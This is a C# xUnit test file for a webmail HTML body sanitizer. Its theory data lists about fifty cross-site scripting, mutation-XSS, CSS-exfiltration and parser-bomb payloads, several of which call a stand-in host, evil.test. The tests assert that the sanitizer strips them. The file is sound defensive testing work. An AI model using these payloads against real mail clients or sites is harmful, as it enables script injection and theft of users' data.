using AngleSharp.Html.Parser;
using Webmail.Gateway.Reading;
using Xunit;

namespace Webmail.Tests.Reading;

public sealed class HtmlBodySanitizerTests
{
    private static readonly Dictionary<string, string> Inline = new(StringComparer.OrdinalIgnoreCase) { ["logo@a.test"] = "1.2" };

    public static TheoryData<string> Attacks => new(
        "<script>steal()</script>",
        "<img src=x onerror=steal()>",
        "<svg onload=steal()><script>steal()</script></svg>",
        "<svg><animate xlink:href=#x attributeName=href values=javascript:steal() /></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=steal()&gt;\">",
        "<math><annotation-xml encoding=\"text/html\"><img src onerror=steal()></annotation-xml></math>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=steal()>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=steal()>",
        "<noscript><p title=\"</noscript><img src=x onerror=steal()>\">",
        "<template><img src=x onerror=steal()></template>",
        "<textarea><img title=\"</textarea><img src onerror=steal()>\"></textarea>",
        "<xmp><p title=\"</xmp><img src onerror=steal()>\"></xmp>",
        "<iframe srcdoc=\"<script>steal()</script>\"></iframe>",
        "<object data=javascript:steal()></object><embed src=javascript:steal()>",
        "<a href=\"javascript:steal()\">x</a>",
        "<a href=\"java&#10;script:steal()\">x</a>",
        "<a href=\" &#1; javascript:steal()\">x</a>",
        "<a href=\"data:text/html,<script>steal()</script>\">x</a>",
        "<a href=\"vbscript:steal()\">x</a>",
        "<base href=\"https://evil.test/\"><a href=x>x</a>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.test/\">",
        "<link rel=stylesheet href=https://evil.test/steal.css>",
        "<style>@import 'https://evil.test/steal';</style>",
        "<div style=\"background:url(https://evil.test/steal)\">x</div>",
        "<div style=\"background-image:u\\72l(https://evil.test/steal)\">x</div>",
        "<div style=\"background:/**/url(https://evil.test/steal)\">x</div>",
        "<div style=\"list-style:url(https://evil.test/steal)\">x</div>",
        "<div style=\"width:expression(steal())\">x</div>",
        "<div style=\"behavior:url(steal.htc);-moz-binding:url(steal)\">x</div>",
        "<div style=\"position:fixed;inset:0;z-index:9999\">x</div>",
        "<form action=https://evil.test/steal><input name=p type=password><button>ok</button></form>",
        "<button formaction=javascript:steal()>x</button>",
        "<video src=x onerror=steal()><source onerror=steal()></video>",
        "<body background=https://evil.test/steal onload=steal()>",
        "<table background=https://evil.test/steal><tr><td>x</table>",
        "<img srcset=\"https://evil.test/steal 1x\">",
        "<img src=\"https://evil.test/steal\">",
        "<input type=image src=https://evil.test/steal>",
        "<!--[if IE]><script>steal()</script><![endif]-->",
        "<x:script xmlns:x=http://www.w3.org/1999/xhtml>steal()</x:script>",
        "<div><![CDATA[<script>steal()</script>]]></div>",
        "<a href=x ping=https://evil.test/steal>x</a>",
        "<select><style></select><img src onerror=steal()></style>",
        "<p style=\"font-family:'</style><img src onerror=steal()>'\">x",
        "<img src=\"`\" alt=\"``onerror=steal()\">",
        "<details open ontoggle=steal()>x</details>",
        "<image src=x onerror=steal()>",
        "<plaintext><img src onerror=steal()>",
        "<frameset onload=steal()><frame src=javascript:steal()></frameset>");

    [Theory]
    [MemberData(nameof(Attacks))]
    public void Nothing_that_runs_loads_or_submits_survives(string attack)
    {
        var html = Sanitize("<p>before</p>" + attack + "<p>after</p>");

        // Read as a browser reads it, not as text: escaped markup inside an attribute harms nobody.
        var document = new HtmlParser().ParseDocument(html);
        string[] names = [.. document.Body!.QuerySelectorAll("*").Select(e => e.LocalName)];
        Assert.DoesNotContain(names, n => HtmlAllowList.GoneWithContent.Contains(n) || n is "form" or "x:script");
        foreach (var attribute in document.Body.QuerySelectorAll("*").SelectMany(e => e.Attributes))
        {
            Assert.False(attribute.Name.StartsWith("on", StringComparison.Ordinal), attribute.Name);
            Assert.DoesNotContain("script:", attribute.Value, StringComparison.OrdinalIgnoreCase);
            Assert.False(attribute.Name is "style" or "src" or "background" && attribute.Value.Contains("steal", StringComparison.Ordinal), attribute.Value);
            Assert.False(attribute.Name is "style" && attribute.Value.Contains("position", StringComparison.Ordinal), attribute.Value);
        }
    }

    [Theory]
    [MemberData(nameof(Attacks))]
    public void What_comes_out_reads_the_same_again(string attack)
    {
        var once = Sanitize(attack);
        var reparsed = new HtmlParser().ParseDocument(once).Body!.InnerHtml;

        Assert.Equal(new HtmlParser().ParseDocument(reparsed).Body!.InnerHtml, reparsed);
    }

    [Fact]
    public void An_inline_image_points_to_its_part()
    {
        Assert.Contains("src=\"part/1.2\"", Sanitize("<img src=\"cid:logo%40a.test\" alt=logo>"), StringComparison.Ordinal);
    }

    [Fact]
    public void An_inline_image_that_is_not_there_has_no_address()
    {
        Assert.DoesNotContain("src", Sanitize("<img src=\"cid:other@a.test\" alt=logo>"), StringComparison.Ordinal);
    }

    [Fact]
    public void Remote_images_are_counted_and_left_out()
    {
        var safe = HtmlBodySanitizer.Sanitize("<img src=\"https://b.test/1.png\" alt=one><img src=//b.test/2.png>", Images(ImageTreatment.HideRemote), true)!;

        Assert.Equal(2, safe.RemoteImages);
        Assert.DoesNotContain("b.test", safe.Html, StringComparison.Ordinal);
        Assert.Contains("alt=\"one\"", safe.Html, StringComparison.Ordinal);
    }

    [Fact]
    public void Remote_images_go_through_the_proxy_when_asked_for()
    {
        var safe = HtmlBodySanitizer.Sanitize("<img src=\"https://b.test/1.png?a=1&amp;b=2\">", Images(ImageTreatment.ShowRemote), true)!;

        var name = System.Buffers.Text.Base64Url.EncodeToString("https://b.test/1.png?a=1&b=2"u8);
        Assert.Contains($"src=\"remote/{name}\"", safe.Html, StringComparison.Ordinal);
    }

    [Fact]
    public void Links_open_outside_and_tell_nothing_about_us()
    {
        var html = Sanitize("<a href=\"https://b.test/x\">b</a>");

        Assert.Contains("target=\"_blank\"", html, StringComparison.Ordinal);
        Assert.Contains("rel=\"noopener noreferrer\"", html, StringComparison.Ordinal);
    }

    [Fact]
    public void A_link_into_our_own_site_is_not_a_link()
    {
        Assert.DoesNotContain("href", Sanitize("<a href=\"/sign-out\">b</a><a href=\"#x\">c</a>"), StringComparison.Ordinal);
    }

    [Fact]
    public void The_words_inside_unknown_elements_stay()
    {
        Assert.Equal("<p>Hello <b>you</b></p>", Sanitize("<p>Hello <o:p><b>you</b></o:p></p>"));
    }

    [Theory]
    [InlineData("background:url(//b.test/x)")]
    [InlineData("background:u\\72l(x)")]
    [InlineData("color:red/*;*/")]
    [InlineData("font-family:'a;color:red")]
    [InlineData("font-family:\"x&quot;}</style><script>")]
    [InlineData("width:calc(1px + (2px))")]
    [InlineData("color:var(--x)")]
    [InlineData("--x:url(y)")]
    [InlineData("background:image-set('x' 1x)")]
    [InlineData("position:fixed")]
    public void Styles_that_reach_outside_go(string style)
    {
        var document = new HtmlParser().ParseDocument(Sanitize($"<p style='{style.Replace("'", "&#39;", StringComparison.Ordinal)}' data-webmail-style=\"background:url(x)\">x</p>"));
        var left = document.QuerySelector("p")!;

        Assert.All(left.Attributes, a => Assert.Equal("color:red", a.Value));
    }

    [Fact]
    public void Harmless_styles_stay()
    {
        Assert.Equal("<p style=\"color:#ff0000;margin:0 4px;font:bold 12px 'Segoe UI',Arial;width:50%;background:rgb(1,2,3)\">x</p>",
            Sanitize("<p style=\"color:#ff0000;MsoStyle:1;margin: 0 4px;font:bold 12px 'Segoe UI',Arial;position:absolute;width:50%;background:rgb(1,2,3)\">x</p>"));
    }

    [Fact]
    public void The_quote_below_an_answer_is_folded()
    {
        var html = Sanitize("<p>Yes.</p><div class=\"gmail_quote\">On Monday Ana wrote:<blockquote>Will you?</blockquote></div>");

        Assert.Equal("<p>Yes.</p><details class=\"q\"><summary></summary><div>On Monday Ana wrote:<blockquote>Will you?</blockquote></div></details>", html);
    }

    [Fact]
    public void Answers_between_quotes_are_not_folded_away()
    {
        var html = Sanitize("<p>Hi</p><blockquote type=cite>Will you?</blockquote><p>Yes.</p>");

        Assert.DoesNotContain("<details", html, StringComparison.Ordinal);
    }

    [Fact]
    public void A_forwarded_message_is_not_folded_away()
    {
        var html = Sanitize("<p>FYI</p><div class=\"gmail_quote\">---------- Forwarded message ---------<p>News</p></div>");

        Assert.DoesNotContain("<details", html, StringComparison.Ordinal);
    }

    [Fact]
    public void A_message_that_paints_itself_is_known()
    {
        Assert.True(HtmlBodySanitizer.Sanitize("<p style=\"color:#000\">x</p>", Images(ImageTreatment.HideRemote), true)!.HasOwnColours);
        Assert.False(HtmlBodySanitizer.Sanitize("<p>x</p>", Images(ImageTreatment.HideRemote), true)!.HasOwnColours);
    }

    [Fact]
    public void Markup_nested_beyond_what_anyone_writes_is_cut()
    {
        var html = Sanitize(string.Concat(Enumerable.Repeat("<div>", 1500)) + "deep");

        Assert.DoesNotContain("deep", html, StringComparison.Ordinal);
    }

    public static TheoryData<string> Bombs => new(
        string.Concat(Enumerable.Repeat("<div>", 100_000)),
        string.Concat(Enumerable.Repeat("<x>", 50_000)) + string.Concat(Enumerable.Repeat("</y>", 50_000)),
        string.Concat(Enumerable.Range(0, 5000).Select(i => $"<b a={i}>")) + string.Concat(Enumerable.Repeat("<p>x", 5000)));

    [Theory]
    [MemberData(nameof(Bombs))]
    public void Markup_built_to_exhaust_the_parser_is_not_parsed(string bomb)
    {
        Assert.Null(HtmlBodySanitizer.Sanitize(bomb, Images(ImageTreatment.HideRemote), true));
    }

    [Fact]
    public void A_quote_in_the_composer_keeps_images_without_loading_them_and_sends_them_again()
    {
        var composing = HtmlBodySanitizer.Sanitize("<img src=\"https://b.test/1.png\"><img src=\"cid:logo@a.test\">", Images(ImageTreatment.Compose), false)!;
        Assert.Equal("<img data-remote=\"https://b.test/1.png\"><img src=\"cid:logo@a.test\">", composing.Html);

        var sent = HtmlBodySanitizer.Sanitize(composing.Html, Images(ImageTreatment.Send), false)!;
        Assert.Equal("<img src=\"https://b.test/1.png\"><img src=\"cid:logo@a.test\">", sent.Html.Replace(" data-remote=\"https://b.test/1.png\"", "", StringComparison.Ordinal));
    }

    private static string Sanitize(string html) => HtmlBodySanitizer.Sanitize(html, Images(ImageTreatment.HideRemote), foldQuotes: true)!.Html;

    private static HtmlImages Images(ImageTreatment treatment) => new(treatment, Inline);
}
